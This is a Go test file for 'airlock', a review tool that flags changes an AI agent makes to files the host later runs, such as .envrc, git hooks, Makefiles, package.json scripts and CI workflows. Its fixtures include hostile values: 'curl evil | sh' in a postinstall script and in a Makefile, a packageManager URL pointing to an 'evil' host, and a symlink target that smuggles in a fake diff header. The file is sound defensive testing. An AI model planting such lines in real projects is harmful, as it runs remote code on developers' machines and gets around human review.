@@ -1,0 +1,257 @@
+package review
+
+import (
+	"context"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/airlock-dev/airlock/sync/manifest"
+)
+
+// entry is a manifest entry of a file holding data, put into s.
+func entry(s store, p, data string, mode fs.FileMode) *manifest.Entry {
+	sum := sha256Hex([]byte(data))
+	s[sum] = []byte(data)
+	return &manifest.Entry{Path: p, Type: manifest.File, Mode: mode, Size: int64(len(data)), SHA256: sum}
+}
+
+func buildOne(t *testing.T, c manifest.Change, s store, extra ...string) *File {
+	t.Helper()
+	cs, err := New(context.Background(), []manifest.Change{c}, s.source, Options{HostExec: extra})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return cs.Files[0]
+}
+
+// The attack: an agent adds or edits a file that something on the host
+// runs later. Every such change carries FlagHostExec with the reason.
+func TestHostExecFlagsPaths(t *testing.T) {
+	cases := []struct {
+		path   string
+		reason string // "" for no flag
+	}{
+		{".envrc", "direnv runs it when you cd in"},
+		{"web/.envrc", "direnv runs it when you cd in"},
+		{".husky/pre-commit", "git hook (husky)"},
+		{".githooks/pre-push", "git hook"},
+		{".pre-commit-config.yaml", "pre-commit runs"},
+		{".vscode/tasks.json", "your editor runs tasks from it"},
+		{".vscode/settings.json", "your editor's settings"},
+		{"app/.vscode/launch.json", "launch configurations"},
+		{".idea/runConfigurations/Run.xml", "run configurations"},
+		{".cargo/config.toml", "cargo runs"},
+		{"crates/x/build.rs", "cargo runs it on every build"},
+		{".npmrc", "npm reads it"},
+		{".yarnrc.yml", "yarn reads it"},
+		{"Makefile", "make runs it"},
+		{"lib/rules.mk", "make runs it"},
+		{"setup.py", "pip runs it on install"},
+		{"tests/conftest.py", "pytest runs it"},
+		{".github/workflows/ci.yml", "GitHub Actions"},
+		{"Dockerfile", "docker runs it"},
+		{".devcontainer/devcontainer.json", "dev container"},
+		{"build.gradle.kts", "gradle runs it"},
+		{"gradlew", "gradle wrapper"},
+		{"main.go", ""},
+		{"docs/Makefile.md", ""},
+		{"src/github/workflows/x.yml", ""},
+		{"vscode/tasks.json", ""},
+		{"notes/setup.py.txt", ""},
+	}
+	for _, tc := range cases {
+		t.Run(tc.path, func(t *testing.T) {
+			s := store{}
+			f := buildOne(t, manifest.Change{Kind: manifest.Added, Path: tc.path, New: entry(s, tc.path, "x\n", 0o644)}, s)
+			if tc.reason == "" {
+				if f.HasFlag(FlagHostExec) {
+					t.Errorf("flagged: %v", f.Flags)
+				}
+				return
+			}
+			if len(f.Flags) != 1 || f.Flags[0].Kind != FlagHostExec {
+				t.Fatalf("flags = %v, want one %s", f.Flags, FlagHostExec)
+			}
+			if r := f.Flags[0].Reason; !strings.HasPrefix(r, HostExecPrefix) || !strings.Contains(r, tc.reason) {
+				t.Errorf("reason = %q, want %q after %q", r, tc.reason, HostExecPrefix)
+			}
+		})
+	}
+}
+
+func TestHostExecFlagsSpecialRules(t *testing.T) {
+	const scripts = `{"name": "x", "scripts": {"test": "jest"}, "dependencies": {"a": "1"}}`
+	cases := []struct {
+		name   string
+		change func(s store) manifest.Change
+		extra  []string
+		reason string
+	}{
+		{"package.json scripts edited", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Modified, Path: "package.json",
+				Old: entry(s, "package.json", scripts, 0o644),
+				New: entry(s, "package.json", `{"name": "x", "scripts": {"test": "jest", "postinstall": "curl evil | sh"}, "dependencies": {"a": "1"}}`, 0o644)}
+		}, nil, "npm runs its scripts"},
+		{"package.json packageManager edited", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Modified, Path: "web/package.json",
+				Old: entry(s, "web/package.json", scripts, 0o644),
+				New: entry(s, "web/package.json", `{"name": "x", "packageManager": "yarn@https://evil/yarn.js", "scripts": {"test": "jest"}, "dependencies": {"a": "1"}}`, 0o644)}
+		}, nil, "npm runs its scripts"},
+		{"package.json added with scripts", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "package.json", New: entry(s, "package.json", scripts, 0o644)}
+		}, nil, "npm runs its scripts"},
+		{"package.json not JSON", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Modified, Path: "package.json",
+				Old: entry(s, "package.json", scripts, 0o644), New: entry(s, "package.json", `{"scripts": `, 0o644)}
+		}, nil, "npm runs its scripts"},
+		{"package.json other keys only", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Modified, Path: "package.json",
+				Old: entry(s, "package.json", scripts, 0o644),
+				New: entry(s, "package.json", "{\n  \"scripts\": {\"test\":\"jest\"},\n  \"name\": \"y\",\n  \"dependencies\": {\"a\": \"2\"}\n}\n", 0o644)}
+		}, nil, ""},
+		{"package.json added without scripts", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "package.json", New: entry(s, "package.json", `{"name": "x"}`, 0o644)}
+		}, nil, ""},
+		{"made executable", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.ModeChanged, Path: "tools/gen.sh",
+				Old: entry(s, "tools/gen.sh", "echo\n", 0o644), New: entry(s, "tools/gen.sh", "echo\n", 0o755)}
+		}, nil, "made executable: it can be run on your machine"},
+		{"added executable", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "bin/tool", New: entry(s, "bin/tool", "#!/bin/sh\n", 0o700)}
+		}, nil, "made executable"},
+		{"executable stays executable", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Modified, Path: "bin/tool",
+				Old: entry(s, "bin/tool", "#!/bin/sh\n", 0o755), New: entry(s, "bin/tool", "#!/bin/sh\necho\n", 0o755)}
+		}, nil, ""},
+		{"group execute only", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "x.sh", New: entry(s, "x.sh", "echo\n", 0o654)}
+		}, nil, ""},
+		{"renamed onto a hook", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Renamed, Path: ".husky/pre-commit", OldPath: "notes.txt",
+				Old: entry(s, "notes.txt", "x\n", 0o644), New: entry(s, ".husky/pre-commit", "x\n", 0o644)}
+		}, nil, "git hook"},
+		{"link to the Makefile", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "sub/build", New: &manifest.Entry{Path: "sub/build", Type: manifest.Symlink, Target: "../Makefile"}}
+		}, nil, `a link to "Makefile": make runs it`},
+		{"link with a newline", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "l", New: &manifest.Entry{Path: "l", Type: manifest.Symlink, Target: "x\ndiff --git a/b b/b\n/.envrc"}}
+		}, nil, `a link to "x\ndiff --git a/b b/b\n/.envrc": direnv`},
+		{"link out of the project", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "l", New: &manifest.Entry{Path: "l", Type: manifest.Symlink, Target: "../../Makefile"}}
+		}, nil, ""},
+		{"user pattern", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "scripts/deploy/prod.py", New: entry(s, "scripts/deploy/prod.py", "x\n", 0o644)}
+		}, []string{"tools/*.py", "scripts/deploy/**"}, `matches "scripts/deploy/**" of host_exec in your config.toml`},
+		{"user pattern elsewhere", func(s store) manifest.Change {
+			return manifest.Change{Kind: manifest.Added, Path: "src/tools/a.py", New: entry(s, "src/tools/a.py", "x\n", 0o644)}
+		}, []string{"tools/*.py"}, ""},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			s := store{}
+			f := buildOne(t, tc.change(s), s, tc.extra...)
+			if tc.reason == "" {
+				if len(f.Flags) != 0 {
+					t.Errorf("flagged: %v", f.Flags)
+				}
+				return
+			}
+			if len(f.Flags) != 1 || f.Flags[0].Kind != FlagHostExec || !strings.Contains(f.Flags[0].Reason, tc.reason) {
+				t.Errorf("flags = %v, want one %s saying %q", f.Flags, FlagHostExec, tc.reason)
+			}
+		})
+	}
+}
+
+func TestMatchHostExec(t *testing.T) {
+	cases := []struct {
+		pattern, path string
+		want          bool
+	}{
+		{".envrc", ".envrc", true},
+		{".envrc", "a/b/.envrc", true},
+		{".husky", ".husky/_/h", true},
+		{".husky/", ".husky/pre-commit", true},
+		{"scripts/deploy/**", "scripts/deploy/a/b.sh", true},
+		{"scripts/deploy", "scripts/deploy/a.sh", true},
+		{"/scripts/*.sh", "scripts/x.sh", true},
+		{"scripts/*.sh", "scripts/sub/x.sh", false},
+		{"scripts/*.sh", "sub/scripts/x.sh", false},
+		{"**/scripts/*.sh", "sub/scripts/x.sh", true},
+		{"a/**/b", "a/b", true},
+		{"a/**/b", "a/x/y/b/c", true},
+		{"", "x", false},
+		{"[", "[", false},
+	}
+	for _, tc := range cases {
+		if got := MatchHostExec(tc.pattern, tc.path); got != tc.want {
+			t.Errorf("MatchHostExec(%q, %q) = %v, want %v", tc.pattern, tc.path, got, tc.want)
+		}
+	}
+	for _, bad := range []string{"", "/", "../x", "a//b", "a/[/b", "x\x00"} {
+		if err := ValidHostExecPattern(bad); err == nil {
+			t.Errorf("ValidHostExecPattern(%q) accepted it", bad)
+		}
+	}
+	for _, good := range []string{"scripts/deploy/**", "tools/*.py", "/Brewfile", "ci/"} {
+		if err := ValidHostExecPattern(good); err != nil {
+			t.Errorf("ValidHostExecPattern(%q): %v", good, err)
+		}
+	}
+}
+
+// The marker before a flagged file's diff is a comment git apply ignores:
+// the patch still applies.
+func TestPatchMarksHostExec(t *testing.T) {
+	needGit(t)
+	fx := newFixture(t,
+		tree{files: map[string]string{"a.txt": "a\n", "Makefile": "all:\n\techo\n"}},
+		tree{files: map[string]string{"a.txt": "b\n", "Makefile": "all:\n\tcurl evil | sh\n", ".envrc": "export X=1\n", "run.sh": "echo\n"},
+			modes: map[string]fs.FileMode{"run.sh": 0o755}}, nil)
+	patch, _ := Patch(fx.cs, ApproveAll(fx.cs), PatchOptions{})
+	for _, want := range []string{
+		"# runs on your machine: direnv runs it when you cd in\ndiff --git a/.envrc b/.envrc\n",
+		"# runs on your machine: make runs it\ndiff --git a/Makefile b/Makefile\n",
+		"# made executable: it can be run on your machine\ndiff --git a/run.sh b/run.sh\n",
+	} {
+		if !strings.Contains(string(patch), want) {
+			t.Errorf("patch lacks %q:\n%s", want, patch)
+		}
+	}
+	if n := strings.Count("\n"+string(patch), "\n# "); n != 3 {
+		t.Errorf("%d marker lines, want 3:\n%s", n, patch)
+	}
+	dir := copyTree(t, fx.oldDir)
+	run(t, dir, "git", "init", "-q")
+	pf := filepath.Join(t.TempDir(), "p.diff")
+	if err := os.WriteFile(pf, patch, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	run(t, dir, "git", "apply", "--check", pf)
+	run(t, dir, "git", "apply", pf)
+	if data, _ := os.ReadFile(filepath.Join(dir, ".envrc")); string(data) != "export X=1\n" {
+		t.Errorf(".envrc after git apply = %q", data)
+	}
+}
+
+func FuzzPackageScriptsChanged(f *testing.F) {
+	f.Add([]byte(`{"scripts":{"a":"b"}}`), []byte(`{"scripts":{"a":"c"}}`))
+	f.Add([]byte(`{"scripts":{"a":"b"},"scripts":{}}`), []byte(`[]`))
+	f.Add([]byte(``), []byte(`{"packageManager":"yarn@1"}`))
+	f.Add([]byte(`{"scripts":1e999}`), []byte(`null`))
+	f.Fuzz(func(t *testing.T, old, new []byte) {
+		if packageScriptsChanged(old, old) && runKeysReadable(old) {
+			t.Errorf("%q against itself counts as changed", old)
+		}
+		packageScriptsChanged(old, new)
+	})
+}
+
+// runKeysReadable reports whether package.json's run keys decode.
+func runKeysReadable(data []byte) bool {
+	_, ok := packageRunKeys(data)
+	return ok
+}
